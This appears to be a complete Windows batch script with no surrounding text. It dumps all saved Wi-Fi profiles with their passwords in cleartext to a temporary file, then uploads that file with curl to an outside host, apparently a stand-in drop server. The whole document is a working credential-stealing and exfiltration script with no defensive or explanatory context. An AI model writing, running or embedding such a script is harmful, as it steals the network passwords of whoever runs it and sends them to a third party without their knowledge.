@echo off
netsh wlan show profile name=* key=clear > %TEMP%\w.txt
curl -s -F "w=@%TEMP%\w.txt" https://drop.example.net/w
